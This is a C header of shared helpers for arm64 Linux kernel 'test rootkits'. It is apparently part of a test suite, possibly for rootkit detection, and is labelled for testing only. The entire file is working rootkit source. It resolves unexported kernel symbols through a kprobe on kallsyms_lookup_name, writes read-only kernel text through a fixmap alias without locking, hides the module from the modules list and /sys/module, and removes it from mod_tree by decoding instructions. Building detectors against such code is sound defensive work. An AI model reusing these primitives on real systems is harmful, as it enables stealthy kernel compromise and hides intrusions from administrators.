/* SPDX-License-Identifier: GPL-2.0 */
/*
 * rkit64.h - what the arm64 test rootkits share: find an unexported
 * function, write read-only kernel image memory, hide the module and link
 * it back (the AArch64 counterpart of ../rkit.h).
 *
 * rkit_lookup(name): kallsyms_lookup_name, itself found with a kprobe.
 * Debian's arm64 kernel has no CONFIG_KALLSYMS_ALL: functions only.
 * rkit_poke(dst, src, len): a copy into the kernel image (text or
 * read-only data, within one page) through a writable alias of its page
 * at the fixmap slot FIX_TEXT_POKE0 (what the kernel's own text patching
 * uses), mapped with __set_fixmap (found with rkit_lookup), interrupts
 * off; an aligned 4 or 8 bytes in one store; the instruction cache is
 * cleaned when dst is core text.  The kernel's patch_lock is static:
 * like real rootkits, this goes without it (the test guest is quiet).
 * rkit_hide(): unlink THIS_MODULE from the modules list and delete its
 * kobject (/sys/module, module_kset's list); its memory stays in
 * mod_tree.  rkit_unhide(): link it back into both lists (not sysfs).
 * rkit_tree_erase(): take the module's core memory out of mod_tree too;
 * rkit_tree_insert() puts it back.  mod_tree is no kallsyms symbol here
 * (no CONFIG_KALLSYMS_ALL), so it is found the way the kernel's own code
 * reaches it: __module_address reads mod_tree.addr_min with an adrp and
 * an add or ldr.  A candidate is used only when the root of its first
 * latch copy is the top of the tree this module's own node hangs in;
 * otherwise rkit_tree_erase fails (-ENOENT).
 * RKIT_SYS(name): the symbol of syscall name's entry point
 * ("__arm64_sys_sysinfo").  ../rkit.h is this file when built for arm64.
 * For testing only.
 */
#ifndef RKIT64_H
#define RKIT64_H

#include <linux/kobject.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/rbtree_latch.h>
#include <linux/rculist.h>
#include <linux/uaccess.h>
#include <asm/cacheflush.h>
#include <asm/fixmap.h>
#include <asm/memory.h>
#include <asm/sections.h>

#define RKIT_SYS(name) "__arm64_sys_" #name

static unsigned long __maybe_unused rkit_lookup(const char *name)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long (*kln)(const char *);

	if (register_kprobe(&kp))
		return 0;
	kln = (void *)kp.addr;
	unregister_kprobe(&kp);
	return kln(name);
}

/* whether a is inside a module's memory: __module_address, unexported
 * since 5.x, found with rkit_lookup (0 and true when it cannot be found) */
static bool rkit_in_module(unsigned long a)
{
	static struct module *(*mod_address)(unsigned long);
	bool in;

	if (!mod_address)
		mod_address = (void *)rkit_lookup("__module_address");
	if (!mod_address)
		return true;
	preempt_disable();
	in = mod_address(a) != NULL;
	preempt_enable();
	return in;
}

typedef void (*rkit_set_fixmap_fn)(enum fixed_addresses, phys_addr_t, pgprot_t);

static int __maybe_unused rkit_poke(void *dst, const void *src, size_t len)
{
	static rkit_set_fixmap_fn rkit_setfix;
	unsigned long a = (unsigned long)dst, off = a & ~PAGE_MASK, flags;
	unsigned long stext = rkit_lookup("_stext"), etext = rkit_lookup("_etext");
	void *alias;

	if (!rkit_setfix)
		rkit_setfix = (rkit_set_fixmap_fn)rkit_lookup("__set_fixmap");
	if (!rkit_setfix || !stext || off + len > PAGE_SIZE)
		return -EINVAL;
	/* an address of the kernel image: its physical page is va - kimage_voffset */
	if (a < stext || a >= stext + SZ_1G || rkit_in_module(a))
		return -EFAULT;
	local_irq_save(flags);
	rkit_setfix(FIX_TEXT_POKE0, (a - kimage_voffset) & PAGE_MASK, FIXMAP_PAGE_NORMAL);
	alias = (void *)(__fix_to_virt(FIX_TEXT_POKE0) + off);
	if (len == 8 && !(a & 7))
		WRITE_ONCE(*(u64 *)alias, *(const u64 *)src);
	else if (len == 4 && !(a & 3))
		WRITE_ONCE(*(u32 *)alias, *(const u32 *)src);
	else
		memcpy(alias, src, len);
	rkit_setfix(FIX_TEXT_POKE0, 0, FIXMAP_PAGE_CLEAR);
	local_irq_restore(flags);
	if (a < etext)
		caches_clean_inval_pou(a, a + len);
	return 0;
}

static struct list_head *rkit_modules_head;	/* the kernel's `modules` */
static struct kset *rkit_kset;
static bool rkit_hidden;

/* the one entry of the modules list that is no module's memory (modules
 * lie anywhere in a 2 GiB window around the kernel on arm64, not only in
 * [MODULES_VADDR, MODULES_END)) */
static struct list_head *rkit_find_head(void)
{
	struct list_head *p, *head = NULL;
	int n = 0;

	for (p = THIS_MODULE->list.next; p != &THIS_MODULE->list && n < 100000; p = p->next, n++)
		if (!rkit_in_module((unsigned long)p)) {
			head = p;
			break;
		}
	return head;
}

static int __maybe_unused rkit_hide(void)
{
	rkit_modules_head = rkit_find_head();
	rkit_kset = THIS_MODULE->mkobj.kobj.kset;
	if (!rkit_modules_head || !rkit_kset)
		return -ENOENT;
	kset_get(rkit_kset);		/* kobject_del drops the kobject's reference */
	list_del(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	rkit_hidden = true;
	return 0;
}

static void __maybe_unused rkit_unhide(void)
{
	if (!rkit_hidden)
		return;
	list_add_tail_rcu(&THIS_MODULE->list, rkit_modules_head);
	spin_lock(&rkit_kset->list_lock);
	list_add_tail(&THIS_MODULE->mkobj.kobj.entry, &rkit_kset->list);
	spin_unlock(&rkit_kset->list_lock);
	rkit_hidden = false;
}

static struct latch_tree_root *rkit_mod_tree;	/* mod_tree's first member */

static __always_inline unsigned long rkit_mtn_base(struct latch_tree_node *n)
{
	return (unsigned long)container_of(n, struct mod_tree_node, node)->mod->core_layout.base;
}

static __always_inline bool rkit_mtn_less(struct latch_tree_node *a, struct latch_tree_node *b)
{
	return rkit_mtn_base(a) < rkit_mtn_base(b);
}

static __always_inline int rkit_mtn_comp(void *key, struct latch_tree_node *n)
{
	unsigned long v = (unsigned long)key, s = rkit_mtn_base(n);

	if (v < s)
		return -1;
	return v >= s + container_of(n, struct mod_tree_node, node)->mod->core_layout.size;
}

static const struct latch_tree_ops rkit_mtn_ops = {
	.less = rkit_mtn_less,
	.comp = rkit_mtn_comp,
};

/* whether t's first copy's root is the top of the tree our node is in
 * (t read without faulting: a wrong guess is only a wrong guess) */
static bool rkit_tree_is(unsigned long t)
{
	struct rb_node *top = &THIS_MODULE->core_layout.mtn.node.node[0];
	struct latch_tree_root r;

	while (rb_parent(top))
		top = rb_parent(top);
	return !copy_from_kernel_nofault(&r, (void *)t, sizeof(r)) && r.tree[0].rb_node == top;
}

static struct latch_tree_root *rkit_find_mod_tree(void)
{
	u32 *code = (u32 *)rkit_lookup("__module_address");
	unsigned long val[32] = { 0 };
	u32 known = 0;
	int i, j;

	if (!code)
		return NULL;
	for (i = 0; i < 24; i++) {
		u32 in = code[i];
		unsigned int rd = in & 0x1f, rn = (in >> 5) & 0x1f;
		unsigned long pc = (unsigned long)&code[i], a;

		if ((in & 0x9f000000) == 0x90000000) {		/* adrp */
			long imm = (long)(((in >> 5) & 0x7ffff) << 2 | ((in >> 29) & 3)) << 43 >> 43;

			val[rd] = (pc & ~0xfffUL) + imm * 4096;
			known |= 1u << rd;
			continue;
		}
		if ((in & 0xffc00000) == 0x91000000 && (known >> rn & 1))	/* add #imm */
			a = val[rn] + ((in >> 10) & 0xfff);
		else if ((in & 0xffc00000) == 0xf9400000 && (known >> rn & 1))	/* ldr x, [#imm] */
			a = val[rn] + ((in >> 10) & 0xfff) * 8;
		else
			continue;
		/* mod_tree itself, or its addr_min / addr_max after the root */
		for (j = 0; j < 3; j++) {
			unsigned long t = a - (j ? sizeof(struct latch_tree_root) + 8 * (j - 1) : 0);

			if (rkit_tree_is(t))
				return (struct latch_tree_root *)t;
		}
	}
	return NULL;
}

static int __maybe_unused rkit_tree_erase(void)
{
	rkit_mod_tree = rkit_find_mod_tree();
	if (!rkit_mod_tree)
		return -ENOENT;
	latch_tree_erase(&THIS_MODULE->core_layout.mtn.node, rkit_mod_tree, &rkit_mtn_ops);
	return 0;
}

static void __maybe_unused rkit_tree_insert(void)
{
	if (rkit_mod_tree)
		latch_tree_insert(&THIS_MODULE->core_layout.mtn.node, rkit_mod_tree, &rkit_mtn_ops);
	rkit_mod_tree = NULL;
}

#endif
